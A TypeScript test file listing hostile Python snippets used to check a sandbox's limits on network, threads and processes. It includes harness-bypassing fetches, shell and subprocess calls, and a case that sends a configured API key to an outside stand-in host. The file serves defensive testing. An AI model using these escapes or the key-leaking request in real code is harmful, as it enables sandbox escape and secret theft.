import type { HostileCase, HostileClass } from '../hostile-case.ts'
import { amain, LONG_REASON, main } from './python-source.ts'

const cases: HostileCase[] = [
  {
    name: 'a socket',
    definition: `import socket\n${main('s = socket.create_connection(("127.0.0.1", args["port"]), 1)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nreturn s.recv(1).decode()')}`,
    ends: { throws: /OSError|Error/ },
  },
  {
    name: 'a socket that waits for others',
    longSuiteReason: LONG_REASON,
    definition: `import socket\n${main('s = socket.socket()\ns.bind(("0.0.0.0", args["port"]))\ns.listen()\nreturn "listening"')}`,
    ends: 'anyhow',
  },
  {
    name: 'a unix socket',
    longSuiteReason: LONG_REASON,
    definition: `import socket\n${main('s = socket.socket(socket.AF_UNIX)\ns.connect(args["socket"])\nreturn 1')}`,
    ends: { throws: /./ },
  },
  {
    name: 'urllib',
    definition: `import urllib.request\n${main('return urllib.request.urlopen("http://127.0.0.1:%d/" % args["port"], timeout=1).status')}`,
    ends: { throws: /./ },
  },
  {
    name: 'fetch to an address that was not declared',
    definition: `from pyodide.http import pyfetch\n${amain('return (await pyfetch("http://127.0.0.1:%d/" % args["port"])).status')}`,
    ends: { throws: /./ },
  },
  {
    name: 'fetch past the harness',
    definition: `import js\n${amain('return (await js.ServiceWorkerGlobalScope.prototype.fetch.call(js.globalThis, "http://127.0.0.1:%d/" % args["port"])).status')}`,
    ends: 'anyhow',
  },
  {
    name: 'fetch to a name that leads inside',
    definition: `from pyodide.http import pyfetch\n${amain('return (await pyfetch("http://loop.example:%d/" % args["port"])).status')}`,
    network: ['*.example'],
    ends: { throws: /public internet/ },
  },
  {
    // Not hostile: the surrounding refusals must not break it.
    name: 'the secret to its own host, which alone sees it',
    definition: `import runtime
from pyodide.http import pyfetch
${amain(`
key = runtime.config["api_key"]
answer = await pyfetch("http://api.example:%d/" % args["port"], method="POST", body="as " + key, headers={"x-key": key})
got = await answer.json()
return [answer.status, got["method"], got["headers"]["x-key"], got["body"]]`)}`,
    network: ['api.example'],
    ends: { returns: [200, 'POST', '(the secret)', 'as (the secret)'] },
  },
  {
    name: 'the secret to another host',
    definition: `import js, runtime\n${amain('r = await js.fetch("http://other.example:%d/?k=%s" % (args["port"], runtime.config["api_key"]))\nreturn r.status')}`,
    network: ['*.example'],
    ends: { returns: 200 },
  },
  {
    name: 'a thread',
    definition: `import threading\n${main('threading.Thread(target=print).start()\nreturn "started"')}`,
    ends: { throws: /RuntimeError/ },
  },
  {
    name: 'a process',
    definition: `import subprocess\n${main('return subprocess.run(["id"]).returncode')}`,
    ends: { throws: /OSError/ },
  },
  {
    name: 'a fork',
    longSuiteReason: LONG_REASON,
    definition: `import os\n${main('return os.fork()')}`,
    ends: { throws: /./ },
  },
  {
    name: 'a pool of processes',
    longSuiteReason: LONG_REASON,
    definition: `import multiprocessing\n${main('return multiprocessing.Pool(2).map(abs, [1])')}`,
    ends: { throws: /./ },
  },
  {
    name: 'a shell',
    longSuiteReason: LONG_REASON,
    definition: `import os\n${main('return os.system("id")')}`,
    ends: 'anyhow',
  },
]

export const PYTHON_NETWORK: HostileClass = {
  name: 'Python’s network, threads and processes',
  language: 'python',
  cases,
}
